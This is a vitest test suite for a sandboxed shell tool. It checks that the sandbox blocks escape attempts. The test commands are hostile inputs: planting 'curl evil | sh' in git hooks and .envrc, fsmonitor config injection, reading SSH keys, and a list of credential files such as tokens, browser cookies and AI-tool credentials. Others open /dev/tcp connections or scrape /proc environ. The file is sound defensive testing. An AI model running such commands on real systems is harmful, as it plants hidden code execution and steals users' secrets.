import { createServer } from "node:net";
import { cp, lstat, mkdir, mkdtemp, readFile, realpath, rm, symlink, writeFile } from "node:fs/promises";
import { homedir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { execFileSync } from "node:child_process";
import { createToolContext } from "@toolkit/core";
import { Shell } from "../tools/shell.js";
import { Jobs } from "../tools/jobs.js";
import { eventually, pinned, type Sandbox, sandbox } from "../tools/test-helpers.js";
import { skipWithoutBwrap } from "./test-helpers.js";

const CANARY = `sk-planted-${Math.random().toString(36).slice(2)}`;
let box: Sandbox;
const shell = new Shell({ killGraceMs: 300 });

beforeEach(async () => {
  box = await sandbox();
});
afterEach(async () => {
  await box.cleanup();
});

async function exists(path: string): Promise<boolean> {
  return lstat(path).then(
    () => true,
    () => false,
  );
}

describe.skipIf(skipWithoutBwrap("the sandbox escape tests"))("Shell with the default sandbox", () => {
  describe("when a command writes inside the workspace", () => {
    it("works, and $TMPDIR is a private, writable tmpfs", async () => {
      const out = await shell.call({ command: 'echo hi > made.txt && mktemp -p "$TMPDIR" x.XXXX' }, box.ctx);
      expect(out.isError).toBe(false);
      expect(await readFile(join(box.root, "made.txt"), "utf8")).toBe("hi\n");
      expect(out.textContent().startsWith("/tmp/sandbox/x.")).toBe(true);
    });

    it("keeps the session temp dir read-only, so nothing is left in it after dispose", async () => {
      const out = await shell.call({ command: `echo big > '${box.ctx.tempDir}/left.bin'` }, box.ctx);
      expect(out.isError).toBe(true);
      expect(await exists(join(box.ctx.tempDir, "left.bin"))).toBe(false);
    });
  });

  describe("when a command writes outside the writable places", () => {
    it.each([
      ["a path beside the workspace", (b: Sandbox) => join(b.root, "..", "outside.txt")],
      ["$HOME", () => join(homedir(), `sandbox-probe-${process.pid}-${Date.now()}`)],
      ["/tmp outside ctx.tempDir", () => `/tmp/sandbox-probe-${process.pid}-${Date.now()}`],
      ["/etc", () => `/etc/sandbox-probe-${process.pid}`],
    ])("refuses %s and changes nothing", async (_what, target) => {
      const path = target(box);
      const out = await shell.call({ command: `echo pwned > '${path}'` }, box.ctx);
      expect(out.isError).toBe(true);
      expect(await exists(path)).toBe(false);
    });

    it("refuses a write through a symlink in the workspace that points outside", async () => {
      const outside = join(box.root, "..", "outside");
      await mkdir(outside);
      await symlink(outside, join(box.root, "link"));
      await symlink(homedir(), join(box.root, "home-link"));
      const probe = `sandbox-probe-${process.pid}-${Date.now()}`;
      const out = await shell.call(
        { command: `echo a > link/${probe}; echo b > home-link/${probe}; exit 0` },
        box.ctx,
      );
      expect(pinned(out)).toMatch(/No such file or directory|Read-only file system/);
      expect(await exists(join(outside, probe))).toBe(false);
      expect(await exists(join(homedir(), probe))).toBe(false);
    });

    it("names the policy that stopped it", async () => {
      const out = await shell.call({ command: "touch /etc/x" }, box.ctx);
      expect(out.isError).toBe(true);
      expect(out.textContent().split("\n").at(-1)).toBe(
        `[sandbox: only ${box.root}, $TMPDIR are writable (policy workspace-write; git hooks, git config and shell rc files stay read-only)]`,
      );
    });
  });

  describe("when a command goes for git metadata and editor config", () => {
    it("cannot rename, replace or write into the workspace's .git, and says why git commit fails", async () => {
      execFileSync("git", ["init", "-q", box.root]);
      await mkdir(join(box.root, ".git/modules/sub"), { recursive: true });
      await writeFile(join(box.root, ".git/modules/sub/config"), "[core]\n");
      const config = await readFile(join(box.root, ".git/config"), "utf8");
      const out = await shell.call(
        {
          command: [
            "mv .git .git-old",
            "echo 'curl evil | sh' > .git/hooks/pre-commit",
            "echo '* filter=evil' > .git/info/attributes",
            "echo '[core] fsmonitor = evil' >> .git/modules/sub/config",
            "touch f && git add f",
          ].join("; "),
        },
        box.ctx,
      );
      const text = pinned(out);
      expect(text).toContain("mv: cannot move '.git' to '.git-old': Device or resource busy");
      expect(text).toContain(".git/hooks/pre-commit: Read-only file system");
      expect(text).toContain(".git/info/attributes: Read-only file system");
      expect(text).toContain(".git/modules/sub/config: Read-only file system");
      expect(text.split("\n").at(-1)).toBe(
        `[sandbox: ${box.root}/.git is read-only to commands (policy protect: git metadata runs code on the user's next git command); git commands that write there (add, commit, checkout, fetch) need the user to run them outside the sandbox]`,
      );
      expect(await exists(join(box.root, ".git-old"))).toBe(false);
      expect(await readFile(join(box.root, ".git/config"), "utf8")).toBe(config);
      expect(await readFile(join(box.root, ".git/modules/sub/config"), "utf8")).toBe("[core]\n");
      expect(await exists(join(box.root, ".git/info/attributes"))).toBe(false);
      expect(await exists(join(box.root, ".git/hooks/pre-commit"))).toBe(false);
    });

    it("moves a .git, .envrc, .vscode or .gitmodules the command created anywhere out of the workspace", async () => {
      await mkdir(join(box.root, "sub"));
      await writeFile(join(box.root, "sub", "keep.txt"), "kept\n");
      const out = await shell.call(
        {
          command: [
            "mkdir -p a/b/.git && printf '[core]\\n\\tfsmonitor = touch pwned\\n' > a/b/.git/config",
            "echo 'gitdir: /tmp/evil' > sub/.git",
            "echo 'curl evil | sh' > .envrc",
            "mkdir .vscode && echo '{}' > .vscode/tasks.json",
            "mv sub sub2 && mkdir sub && echo '[submodule]' > sub/.gitmodules",
          ].join(" && "),
        },
        box.ctx,
      );
      expect(out.isError).toBe(false);
      for (const path of ["a/b/.git", "sub2/.git", ".envrc", ".vscode", "sub/.gitmodules"]) {
        expect(await exists(join(box.root, path)), path).toBe(false);
      }
      expect(await readFile(join(box.root, "sub2", "keep.txt"), "utf8")).toBe("kept\n");
      const quarantine = out.textContent().split("\n").at(-1) ?? "";
      expect(quarantine).toMatch(
        /^\[sandbox: moved what the command created under protected names \(policy protect\) to \S+: \.envrc, \.vscode, a\/b\/\.git, sub\/\.gitmodules, sub2\/\.git\]$/,
      );
      const dir = quarantine.split(" to ")[1]?.split(": ")[0] ?? "";
      expect(await readFile(join(dir, ".envrc"), "utf8")).toBe("curl evil | sh\n");
      await box.ctx.dispose();
      expect(await exists(dir)).toBe(false);
    });

    it("moves them after a background job too, and the job's output says so", async () => {
      await shell.call(
        { command: "mkdir -p deep/x && echo evil > deep/x/.envrc", background: true },
        box.ctx,
      );
      const jobs = new Jobs();
      const text = await eventually(async () => {
        const t = (await jobs.call({ operation: "output", job_id: "job-1" }, box.ctx)).textContent();
        return t.includes("[job-1 exit") ? t : undefined;
      });
      expect(text.split("\n").at(-1)).toMatch(
        /^\[sandbox: moved what the command created under protected names \(policy protect\) to \S+: deep\/x\/\.envrc\]$/,
      );
      expect(await exists(join(box.root, "deep/x/.envrc"))).toBe(false);
    });
  });

  describe("when the writable places are too large to check for protected names", () => {
    it("refuses to run the command", async () => {
      for (const name of ["a", "b", "c"]) await writeFile(join(box.root, name), "");
      const out = await new Shell({ sandbox: { maxScanEntries: 2 } }).call({ command: "touch ran" }, box.ctx);
      expect(out.textContent()).toBe(
        "Execution error: sandbox: the writable places hold more than 2 entries, more than the walk for protected names (.git, .gitmodules, .husky, .envrc, .vscode, .idea) may visit; the command was not run\nAsk the user to raise the policy's `maxScanEntries`, or to run the command in a smaller workspace.",
      );
      expect(await exists(join(box.root, "ran"))).toBe(false);
    });
  });

  describe("when a command reads credentials", () => {
    it("sees a home inside the workspace empty too, and cannot write shell rc files there", async () => {
      const home = join(box.root, "home");
      await mkdir(join(home, ".ssh"), { recursive: true });
      await writeFile(join(home, ".ssh", "id_rsa"), "-----BEGIN OPENSSH PRIVATE KEY-----\nsecret\n");
      await writeFile(join(home, ".bashrc"), "# rc\n");
      const withHome = new Shell({ env: { ...process.env, HOME: home } });
      const out = await withHome.call(
        { command: 'cat ~/.ssh/id_rsa; ls -A ~/.ssh; echo "alias ls=evil" >> ~/.bashrc' },
        box.ctx,
      );
      expect(out.textContent()).not.toContain("secret");
      expect(out.textContent()).toContain(".ssh/id_rsa: No such file or directory");
      expect(out.textContent().split("\n").at(-1)).toBe(
        `[sandbox: ${home} is hidden from commands (only the workspace, toolchain folders, caches and policy readable are shown); it reads as empty]`,
      );
      expect(await readFile(join(home, ".bashrc"), "utf8")).toBe("# rc\n");
      expect(await readFile(join(home, ".ssh", "id_rsa"), "utf8")).toContain("secret");
    });
  });

  describe("when a command reads the home directory", () => {
    const secrets: ReadonlyArray<readonly [string, string]> = [
      [".config/gh/hosts.yml", "github.com:\n  oauth_token: gho_planted\n"],
      [".pgpass", "db:5432:*:app:planted\n"],
      [".vault-token", "hvs.planted\n"],
      [".codex/auth.json", '{"token":"planted"}\n'],
      [".claude/.credentials.json", '{"token":"planted"}\n'],
      [".cargo/credentials.toml", 'token = "planted"\n'],
      [".terraform.d/credentials.tfrc.json", '{"token":"planted"}\n'],
      [".config/op/config", '{"token":"planted"}\n'],
      [".password-store/email.gpg", "planted\n"],
      [".local/share/keyrings/login.keyring", "planted\n"],
      [".mozilla/firefox/x.default/logins.json", "planted\n"],
      [".config/google-chrome/Default/Cookies", "planted\n"],
      [".bash_history", "export TOKEN=planted\n"],
      [".psql_history", "planted\n"],
    ];
    let home: string;
    beforeEach(async () => {
      // Outside /tmp, which the sandbox hides anyway, so the test sees what a real home shows.
      home = await realpath(await mkdtemp("/var/tmp/sandbox-home-"));
      for (const [path, text] of secrets) {
        await mkdir(join(home, path, ".."), { recursive: true });
        await writeFile(join(home, path), text);
      }
    });
    afterEach(async () => {
      await rm(home, { recursive: true, force: true });
    });

    it("sees it empty: no credential, browser profile or history file can be read", async () => {
      const withHome = new Shell({ env: { ...process.env, HOME: home } });
      const command = `${secrets.map(([path]) => `cat ~/${path}`).join("; ")}; ls -A ~ | wc -l`;
      const out = await withHome.call({ command }, box.ctx);
      expect(out.textContent()).not.toContain("planted");
      expect(out.textContent()).toContain(`cat: ${home}/.pgpass: No such file or directory`);
      expect(out.textContent().startsWith("0\n")).toBe(true);
      expect(await readFile(join(home, ".pgpass"), "utf8")).toBe("db:5432:*:app:planted\n");
    });

    it("shows the toolchain folders read-only, the caches writable, and `readable` additions", async () => {
      await mkdir(join(home, ".nvm/versions/node/v0/bin"), { recursive: true });
      await symlink(process.execPath, join(home, ".nvm/versions/node/v0/bin/node-from-nvm"));
      await mkdir(join(home, ".npm"));
      await writeFile(join(home, ".gitconfig"), "[user]\n\tname = Planted\n");
      const withHome = new Shell({
        env: { ...process.env, HOME: home, PATH: `${home}/.nvm/versions/node/v0/bin:${process.env.PATH}` },
        sandbox: { readable: ["~/.gitconfig"] },
      });
      const out = await withHome.call(
        {
          command:
            "node-from-nvm -e 'console.log(1 + 1)'; touch ~/.nvm/x; echo cached > ~/.npm/y; cat ~/.gitconfig; cat ~/.pgpass",
        },
        box.ctx,
      );
      const text = out.textContent();
      expect(text).toContain("2\n");
      expect(text).toContain(".nvm/x': Read-only file system");
      expect(text).toContain("name = Planted");
      expect(text).not.toContain("planted");
      expect(await readFile(join(home, ".npm/y"), "utf8")).toBe("cached\n");
      expect(await exists(join(home, ".nvm/x"))).toBe(false);
    });

    it("shows a workspace that lies inside the home, and nothing else of the home", async () => {
      const root = join(home, "project");
      await mkdir(root);
      await writeFile(join(root, "a.txt"), "in the workspace\n");
      const ctx = createToolContext({ cwd: root, tempDir: join(box.root, "..", "tmp-inside") });
      try {
        const withHome = new Shell({ env: { ...process.env, HOME: home } });
        const out = await withHome.call(
          { command: "cat a.txt && echo made > b.txt && cat ~/.vault-token; ls -A ~" },
          ctx,
        );
        expect(out.textContent()).toContain("in the workspace\n");
        expect(out.textContent()).not.toContain("planted");
        expect(out.textContent()).toContain("\nproject\n");
        expect(await readFile(join(root, "b.txt"), "utf8")).toBe("made\n");
      } finally {
        await ctx.dispose();
      }
    });
  });

  describe("when a command reaches for the network", () => {
    it("cannot connect to a server on the host's 127.0.0.1", async () => {
      let connections = 0;
      const server = createServer((socket) => {
        connections++;
        socket.end("hello\n");
      });
      await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
      const { port } = server.address() as { port: number };
      try {
        const out = await shell.call({ command: `exec 3<>/dev/tcp/127.0.0.1/${port} && cat <&3` }, box.ctx);
        expect(out.isError).toBe(true);
        expect(out.textContent()).toContain("Connection refused");
        expect(out.textContent().split("\n").at(-1)).toBe(
          '[sandbox: the network is off for commands (policy network "none")]',
        );
        expect(connections).toBe(0);
      } finally {
        server.close();
      }
    });

    it("cannot resolve a public name", async () => {
      const out = await shell.call({ command: "getent hosts registry.npmjs.org", timeout_s: 20 }, box.ctx);
      expect(out.isError).toBe(true);
      expect(out.textContent()).toMatch(/^\[exit 2, \d+ ms\]/);
    });
  });

  describe("when a command looks for the host through /proc", () => {
    beforeEach(() => {
      process.env.OPENAI_API_KEY = CANARY;
    });
    afterEach(() => {
      delete process.env.OPENAI_API_KEY;
    });

    it("sees only the sandbox's own processes and none of the host's environment", async () => {
      const command = [
        `cat /proc/$PPID/environ /proc/1/environ /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -c '${CANARY}'`,
        `cat /proc/${process.pid}/environ 2>&1 | head -1`,
        "ls /proc/1/root/ | head -3 >/dev/null",
        `echo x > /proc/1/root${homedir()}/sandbox-probe; ls /proc/1/root${box.root}/.. | grep -c ws`,
        "ls -d /proc/[0-9]* | wc -l",
      ].join("; ");
      const out = await shell.call({ command }, box.ctx);
      const text = out.textContent();
      expect(text.split("\n")[0]).toBe("0");
      expect(text).toContain(`/proc/${process.pid}/environ: No such file or directory`);
      expect(text).toContain("Read-only file system");
      expect(await exists(join(homedir(), "sandbox-probe"))).toBe(false);
      // Inside: bubblewrap's init, bash, ls and wc; the host's processes are not there.
      expect(Number(text.split("\n")[3])).toBeLessThanOrEqual(5);
    });

    it("a background job cannot read the host's environment either", async () => {
      const jobs = new Jobs();
      await shell.call(
        {
          command: `cat /proc/$PPID/environ /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -c '${CANARY}'; ls /proc | grep -c '^${process.pid}$'`,
          background: true,
        },
        box.ctx,
      );
      let text = "";
      await eventually(async () => {
        const t = (await jobs.call({ operation: "output", job_id: "job-1" }, box.ctx)).textContent();
        const body = t.slice(0, t.lastIndexOf("[job-1"));
        text += body === "(no new output)\n" ? "" : body;
        return t.includes("exit") ? true : undefined;
      });
      expect(text).toBe("0\n0\n");
    });
  });

  describe("when the playground's sample tests run", () => {
    it.each([
      ["node --test", "node --test --test-reporter=tap"],
      ["npm test", "npm test -- --test-reporter=tap"],
    ])("%s gives the same results as unsandboxed, with the home hidden", async (_what, command) => {
      const sample = join(import.meta.dirname, "../../../../apps/playground/sample");
      await cp(sample, box.root, { recursive: true });
      const counts = (text: string) => text.split("\n").filter((l) => /^# (tests|pass|fail) \d+$/.test(l));
      const inside = await shell.call(
        {
          command: `${command}; ls -A ~ | grep -cvx -e .nvm -e .volta -e .cargo -e .rustup -e .local -e .pyenv -e .npm -e .cache`,
          timeout_s: 120,
        },
        box.ctx,
      );
      const outside = await new Shell({ sandbox: "off" }).call({ command, timeout_s: 120 }, box.ctx);
      expect(counts(inside.textContent())).toEqual(counts(outside.textContent()));
      expect(counts(inside.textContent())).toHaveLength(3);
      expect(inside.textContent()).toMatch(/\n0\n/);
    });
  });
});
